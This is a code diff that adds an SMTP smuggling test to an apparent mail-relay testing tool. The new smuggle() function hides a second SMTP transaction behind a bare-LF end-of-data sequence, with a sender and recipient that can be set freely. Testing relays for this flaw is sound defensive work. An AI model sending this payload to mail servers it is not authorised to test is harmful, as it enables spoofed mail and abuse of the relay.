@@ -12,6 +12,7 @@ import argparse
 import json
 import os
 import smtplib
+import socket
 import ssl
 import sys
 import uuid
@@ -30,6 +31,39 @@ def build(sender: str, to: str, token: str, from_header: str | None, size: int,
     message["Message-ID"] = f"<{token}@qqrelay.test>"
     message.set_content("A test message of the QQ relay toolkit.\n" + "x" * size)
     return message
+
+
+def smuggle(args: argparse.Namespace) -> dict:
+    """An SMTP smuggling attempt: a second message hidden behind a bare-LF end of data.
+
+    A server that takes ``<LF>.<CR><LF>`` as the end of DATA would queue two messages, the
+    second with the token ``<token>-smuggled``; a safe one queues one message.
+    """
+    token = args.token or uuid.uuid4().hex
+    hidden = (f"MAIL FROM:<{args.sender}>\r\nRCPT TO:<{args.to}>\r\nDATA\r\n"
+              f"From: {args.sender}\r\nSubject: relay test {token}-smuggled\r\n\r\n"
+              "smuggled\r\n.\r\n")
+    replies: list[str] = []
+    with socket.create_connection((args.server, args.port), timeout=30) as conn:
+        stream = conn.makefile("rb")
+
+        def reply() -> str:
+            while True:
+                line = stream.readline().decode("utf-8", "replace")
+                if len(line) < 4 or line[3] != "-":
+                    replies.append(line.strip())
+                    return line
+        reply()
+        for command in (f"EHLO {args.helo}", f"MAIL FROM:<{args.sender}>",
+                        f"RCPT TO:<{args.to}>", "DATA"):
+            conn.sendall(f"{command}\r\n".encode())
+            reply()
+        conn.sendall((f"From: {args.sender}\r\nSubject: relay test {token}\r\n"
+                      f"Message-ID: <{token}@qqrelay.test>\r\n\r\nvisible\n.\r\n"
+                      f"{hidden}").encode())
+        reply()
+        conn.sendall(b"QUIT\r\n")
+    return {"token": token, "replies": replies}
 
 
 def send(args: argparse.Namespace) -> dict:
@@ -84,7 +118,10 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--header", action="append", help="extra header 'Name: value'")
     parser.add_argument("--count", type=int, default=1,
                         help="messages to send in one session (tokens TOKEN-0, TOKEN-1...)")
-    print(json.dumps(send(parser.parse_args(argv))))
+    parser.add_argument("--smuggle", action="store_true",
+                        help="try SMTP smuggling with a bare-LF end of data (plain SMTP)")
+    args = parser.parse_args(argv)
+    print(json.dumps(smuggle(args) if args.smuggle else send(args)))
     return 0
 
 
